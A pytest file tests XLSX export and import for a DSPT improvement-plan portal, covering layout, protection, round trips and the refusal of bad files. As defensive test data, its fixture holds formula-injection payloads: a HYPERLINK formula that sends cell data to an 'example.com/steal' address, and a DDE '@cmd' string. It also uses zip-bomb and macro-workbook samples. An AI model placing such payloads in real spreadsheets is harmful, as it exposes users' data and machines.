"""XLSX export (layout, validation, protection, formula safety) and import (round trip and
every kind of bad file)."""

import copy
import io
import zipfile
from datetime import datetime

import pytest
from openpyxl import load_workbook
from paths import STATIC, TEMPLATES
from sample import make_snapshot, with_progress
from xlsx_helpers import edit, many_rows_workbook, rezip, simple_workbook, zip_bomb

from dspt_portal.exports.import_preview import MATERIAL_FIELDS, compare
from dspt_portal.exports.pdf import render_plan_pdf
from dspt_portal.exports.xlsx import (
    COLUMNS,
    HEADER_ROW,
    MSG_MACROS,
    MSG_NOT_XLSX,
    export_plan_xlsx,
    read_plan_xlsx,
)

HEADERS = [header for _key, header, _width in COLUMNS]
FIRST = HEADER_ROW + 1  # first data row in the exported sheet


@pytest.fixture(scope="module")
def snapshot():
    snapshot = with_progress(make_snapshot(12))
    tricky = snapshot["rows"]
    tricky[0]["actions"] = '=HYPERLINK("http://example.com/steal?d="&A1,"Click")'
    tricky[1]["owner"] = "@cmd|' /C calc'!A0"
    tricky[2]["current_position"] = "-5 staff untrained"
    tricky[3]["covid_note"] = "+44 phone tree"
    tricky[4]["progress_note"] = "'=already quoted"
    tricky[5]["milestones"] = []
    tricky[6]["completion_date"] = None
    return snapshot


@pytest.fixture(scope="module")
def data(snapshot):
    return export_plan_xlsx(snapshot)


def refs(snapshot) -> set[str]:
    return {row["ref"] for row in snapshot["rows"]}


def only_problem(result):
    assert result.rows == [] and len(result.problems) == 1, result.problems
    return result.problems[0].message


# ---------------------------------------------------------------- export


def test_layout_header_block_and_columns(data, snapshot):
    wb = load_workbook(io.BytesIO(data))
    assert wb.sheetnames == ["Improvement plan", "Guidance"]
    ws = wb["Improvement plan"]
    block = {ws.cell(r, c).value: ws.cell(r, c + 1).value for r in (2, 3) for c in (1, 3, 5)}
    assert block["Organisation"] == "NHS Northshire Integrated Care Board"
    assert block["ODS code"] == "QXX" and block["Toolkit year"] == "2022-23"
    assert block["Plan reference"] == "IP-2022-23-QXX-12" and block["Plan version"] == 3
    assert block["Generated"] == datetime(2023, 7, 11, 10, 31)
    assert [cell.value for cell in ws[HEADER_ROW]] == HEADERS
    assert ws.max_row == HEADER_ROW + len(snapshot["rows"])
    assert ws.freeze_panes == f"C{FIRST}"
    assert ws.auto_filter.ref == f"A{HEADER_ROW}:M{HEADER_ROW + len(snapshot['rows'])}"
    assert ws.column_dimensions["B"].width >= 40
    assert ws.cell(FIRST, 4).alignment.wrap_text


def test_cells_hold_real_dates_and_labels(data, snapshot):
    ws = load_workbook(io.BytesIO(data))["Improvement plan"]
    first = snapshot["rows"][0]
    date_cell = ws.cell(FIRST, 7)
    assert date_cell.value == datetime.fromisoformat(first["completion_date"])
    assert date_cell.number_format == "DD/MM/YYYY"
    assert ws.cell(FIRST + 6, 7).value is None  # no completion date
    assert ws.cell(FIRST, 3).value == "No" and ws.cell(FIRST + 1, 3).value == "Yes"
    assert ws.cell(FIRST, 6).value == (
        "02/12/2023 – Draft reviewed by the IG lead\n17/01/2024 – Approved at IG Steering Group"
    )
    assert ws.cell(FIRST, 9).value is None and ws.cell(FIRST + 1, 9).value == "Yes"
    assert ws.cell(FIRST, 12).value == "Not started" and ws.cell(FIRST + 2, 12).value == "Complete"


def test_drop_downs(data, snapshot):
    ws = load_workbook(io.BytesIO(data))["Improvement plan"]
    last = HEADER_ROW + len(snapshot["rows"])
    by_formula = {dv.formula1: str(dv.sqref) for dv in ws.data_validations.dataValidation}
    assert set(by_formula['"Yes,No"'].split()) == {f"C{FIRST}:C{last}", f"I{FIRST}:I{last}"}
    assert by_formula['"Not started,In progress,Complete"'] == f"L{FIRST}:L{last}"


def test_protection_locks_reference_text_and_headers_only(data):
    ws = load_workbook(io.BytesIO(data))["Improvement plan"]
    assert ws.protection.sheet
    assert ws.protection.autoFilter is False  # filtering allowed
    assert ws.cell(HEADER_ROW, 4).protection.locked
    assert ws["B2"].protection.locked
    assert ws.cell(FIRST, 1).protection.locked and ws.cell(FIRST, 2).protection.locked
    for col in range(3, len(COLUMNS) + 1):
        assert not ws.cell(FIRST, col).protection.locked, HEADERS[col - 1]


def test_guidance_sheet_explains_every_column(data):
    ws = load_workbook(io.BytesIO(data))["Guidance"]
    explained = {row[0] for row in ws.iter_rows(values_only=True)}
    assert set(HEADERS) <= explained
    assert any("apostrophe" in (row[1] or "") for row in ws.iter_rows(values_only=True))


def test_formulas_are_stored_as_text(data):
    ws = load_workbook(io.BytesIO(data))["Improvement plan"]
    actions = ws.cell(FIRST, 5)
    assert actions.data_type == "s"
    assert actions.value == "'" + '=HYPERLINK("http://example.com/steal?d="&A1,"Click")'
    assert ws.cell(FIRST + 1, 8).value.startswith("'@")
    assert ws.cell(FIRST + 2, 4).value == "'-5 staff untrained"
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        sheet = z.read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet and b"<f " not in sheet


# ---------------------------------------------------------------- round trip


def test_round_trip_is_unchanged(data, snapshot):
    result = read_plan_xlsx(data, known_refs=refs(snapshot))
    assert result.problems == [] and result.ignored_columns == []
    assert len(result.rows) == len(snapshot["rows"])
    for before, after in zip(snapshot["rows"], result.rows, strict=True):
        for name in MATERIAL_FIELDS:
            assert after[name] == before[name], (before["ref"], name)
    changes = compare(snapshot["rows"], result.rows)
    assert [change.kind for change in changes] == ["unchanged"] * len(snapshot["rows"])


def test_round_trip_without_progress():
    snapshot = make_snapshot(30)
    result = read_plan_xlsx(export_plan_xlsx(snapshot), known_refs=refs(snapshot))
    assert {c.kind for c in compare(snapshot["rows"], result.rows)} == {"unchanged"}


def test_edits_show_up_as_changes(data, snapshot):
    def change(ws):
        ws.cell(FIRST + 1, 8).value = "  New Owner  "
        ws.cell(FIRST + 2, 7).value = "31/05/2024"
        ws.cell(FIRST + 3, 9).value = "No"

    result = read_plan_xlsx(edit(data, change), known_refs=refs(snapshot))
    assert result.problems == []
    changes = {c.ref: c for c in compare(snapshot["rows"], result.rows)}
    rows = snapshot["rows"]
    assert changes[rows[1]["ref"]].fields == {"owner": (rows[1]["owner"], "New Owner")}
    assert changes[rows[2]["ref"]].fields["completion_date"][1] == "2024-05-31"
    assert changes[rows[3]["ref"]].fields["covid_impact"] == (rows[3]["covid_impact"], "no")
    assert sum(c.kind == "unchanged" for c in changes.values()) == len(rows) - 3


# ---------------------------------------------------------------- accepted variations


def test_dspt_style_template_is_accepted():
    data = simple_workbook(
        [
            ["DSPT Improvement Plan template"],
            [],
            [
                "Evidence Item",
                "Evidence text",
                "Actions",
                "Action Owner",
                "Target date",
                "COVID impact",
                "Notes",
            ],
            ["1.1.1", "Question", "Write policy", "Jo", "31/03/2024", "Yes", "ignore me"],
            [" 1.1.2 ", "Question", "Train staff", "Sam", "2024-04-30", "", ""],
            [],
            ["1.1.3", None, "Review", "Alex", datetime(2024, 5, 31), "no", None],
        ]
    )
    result = read_plan_xlsx(data, known_refs={"1.1.1", "1.1.2", "1.1.3"})
    assert result.problems == []
    assert result.ignored_columns == ["Notes"]
    assert [row["ref"] for row in result.rows] == ["1.1.1", "1.1.2", "1.1.3"]
    assert [row["completion_date"] for row in result.rows] == ["2024-03-31", "2024-04-30", "2024-05-31"]
    assert [row["covid_impact"] for row in result.rows] == ["yes", "", "no"]
    assert result.rows[0] == {
        "ref": "1.1.1",
        "actions": "Write policy",
        "owner": "Jo",
        "completion_date": "2024-03-31",
        "covid_impact": "yes",
    }


# ---------------------------------------------------------------- refused files


def test_renamed_pdf_is_refused():
    pdf = render_plan_pdf(make_snapshot(1), draft=True, templates_dir=TEMPLATES, static_dir=STATIC)
    assert only_problem(read_plan_xlsx(pdf, known_refs=set())) == MSG_NOT_XLSX


def test_old_xls_is_refused():
    fake_xls = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(4096)
    assert only_problem(read_plan_xlsx(fake_xls, known_refs=set())).startswith(MSG_NOT_XLSX)


@pytest.mark.parametrize("junk", [b"hello", b"PK\x03\x04not really a zip", b"\x00" * 100])
def test_junk_is_refused(junk):
    assert only_problem(read_plan_xlsx(junk, known_refs=set())) == MSG_NOT_XLSX


def test_zip_that_is_not_a_workbook_is_refused():
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        z.writestr("notes.txt", "hello")
    assert only_problem(read_plan_xlsx(out.getvalue(), known_refs=set())) == MSG_NOT_XLSX


def test_macro_workbooks_are_refused(data):
    with_vba = rezip(data, extra={"xl/vbaProject.bin": b"\x00" * 512})
    assert only_problem(read_plan_xlsx(with_vba, known_refs=set())) == MSG_MACROS
    xlsm_type = rezip(
        data,
        replace={
            "[Content_Types].xml": lambda xml: xml.replace(b"sheet.main+xml", b"sheet.macroEnabled.main+xml")
        },
    )
    assert only_problem(read_plan_xlsx(xlsm_type, known_refs=set())) == MSG_MACROS


def test_empty_file_is_refused():
    assert only_problem(read_plan_xlsx(b"", known_refs=set())) == "The file is empty"


def test_too_big_file_is_refused(data):
    message = only_problem(read_plan_xlsx(data, known_refs=set(), max_bytes=1_000))
    assert message.startswith("The file is 0.0") and "the most it can be is 0.001 MB" in message


def test_too_many_rows_is_refused():
    data = many_rows_workbook(10_001)
    message = only_problem(read_plan_xlsx(data, known_refs=set()))
    assert message == "The spreadsheet has 10,001 rows; the most it can have is 1,000"


def test_zip_bomb_is_refused_before_parsing():
    bomb = zip_bomb()
    assert len(bomb) < 1_000_000
    message = only_problem(read_plan_xlsx(bomb, known_refs=set()))
    assert message.startswith("The spreadsheet is too large when unpacked")


def test_total_unpacked_size_is_limited(data):
    message = only_problem(read_plan_xlsx(data, known_refs=set(), max_uncompressed=10_000))
    assert message.startswith("The spreadsheet is too large when unpacked")


def test_missing_reference_column_is_named():
    data = simple_workbook(
        [["Actions required", "Action owner", "Target date"], ["Do it", "Jo", "01/01/2024"]]
    )
    assert only_problem(read_plan_xlsx(data, known_refs={"1.1.1"})) == (
        "The spreadsheet has no 'Evidence item reference' column"
    )


def test_sheet_without_headings_is_refused():
    data = simple_workbook([["a", "b"], [1, 2]])
    assert "Could not find the column headings" in only_problem(read_plan_xlsx(data, known_refs=set()))


# ---------------------------------------------------------------- problems in rows


def problems_for(data, snapshot):
    result = read_plan_xlsx(data, known_refs=refs(snapshot))
    return result, [(p.row, p.column, p.message) for p in result.problems]


def test_unknown_and_duplicate_refs(data, snapshot):
    first_ref = snapshot["rows"][0]["ref"]

    def change(ws):
        ws.cell(FIRST + 1, 1).value = "9.9.9"
        ws.cell(FIRST + 2, 1).value = first_ref

    result, problems = problems_for(edit(data, change), snapshot)
    assert (
        FIRST + 1,
        "Evidence item reference",
        f"Row {FIRST + 1}, Evidence item reference: 9.9.9 is not an evidence item in this plan",
    ) in problems
    assert (
        FIRST + 2,
        "Evidence item reference",
        f"Row {FIRST + 2}, Evidence item reference: {first_ref} is also on row {FIRST}",
    ) in problems
    assert len(result.rows) == len(snapshot["rows"]) - 2


def test_merged_cells_are_refused(data, snapshot):
    _result, problems = problems_for(edit(data, lambda ws: ws.merge_cells(f"D{FIRST}:E{FIRST}")), snapshot)
    assert (None, None, f"Cells D{FIRST}:E{FIRST} are merged: unmerge them and try again") in problems


def test_formula_cells_are_refused(data, snapshot):
    def change(ws):
        ws.cell(7, 7).value = "=DATE(2024,1,31)"
        ws.cell(8, 5).value = "=1+1"

    result, problems = problems_for(edit(data, change), snapshot)
    assert (
        7,
        "Target completion date",
        "Row 7, Target completion date: remove the formula and type the value",
    ) in problems
    assert (
        8,
        "Actions required",
        "Row 8, Actions required: remove the formula and type the value",
    ) in problems
    row7 = next(row for row in result.rows if row["ref"] == snapshot["rows"][1]["ref"])
    assert "completion_date" not in row7  # never takes a value from a formula


@pytest.mark.parametrize(
    ("column", "value", "expected"),
    [
        (7, "next June", "Row 7, Target completion date: enter a date as DD/MM/YYYY (not 'next June')"),
        (7, "31/02/2024", "Row 7, Target completion date: enter a date as DD/MM/YYYY (not '31/02/2024')"),
        (3, "Maybe", "Row 7, Partial response: choose Yes or No"),
        (9, "Perhaps", "Row 7, COVID impacted: choose Yes or No, or leave it blank"),
        (12, "Nearly", "Row 7, Progress status: choose Not started, In progress or Complete"),
        (6, "31/13/2024 – Draft", "Row 7, Milestones: line 1: 31/13/2024 is not a date: use DD/MM/YYYY"),
    ],
)
def test_bad_values_name_row_and_column(data, snapshot, column, value, expected):
    def change(ws):
        ws.cell(7, column).value = value

    _result, problems = problems_for(edit(data, change), snapshot)
    assert [message for _row, _col, message in problems] == [expected]


def test_dates_as_text_are_accepted(data, snapshot):
    def change(ws):
        ws.cell(7, 7).value = "1/2/2024"
        ws.cell(8, 7).value = "2024-03-04"

    result, problems = problems_for(edit(data, change), snapshot)
    assert problems == []
    assert [row["completion_date"] for row in result.rows[1:3]] == ["2024-02-01", "2024-03-04"]


def test_import_never_raises_on_a_corrupted_workbook(data):
    corrupted = rezip(data, replace={"xl/worksheets/sheet1.xml": lambda xml: xml[: len(xml) // 2]})
    result = read_plan_xlsx(corrupted, known_refs=set())
    assert result.problems and result.rows == []


def test_blank_reference_is_a_problem(data, snapshot):
    _result, problems = problems_for(edit(data, lambda ws: setattr(ws.cell(7, 1), "value", None)), snapshot)
    assert problems == [
        (7, "Evidence item reference", "Row 7, Evidence item reference: enter the evidence item reference")
    ]


def test_rows_in_the_plan_but_not_in_the_file(data, snapshot):
    def change(ws):
        ws.delete_rows(FIRST + 3, 2)

    result, problems = problems_for(edit(data, change), snapshot)
    assert problems == []
    kinds = [c.kind for c in compare(snapshot["rows"], result.rows)]
    assert kinds.count("not_in_file") == 2 and kinds.count("unchanged") == len(kinds) - 2


def test_snapshot_is_not_modified_by_export(snapshot):
    before = copy.deepcopy(snapshot)
    export_plan_xlsx(snapshot)
    assert snapshot == before
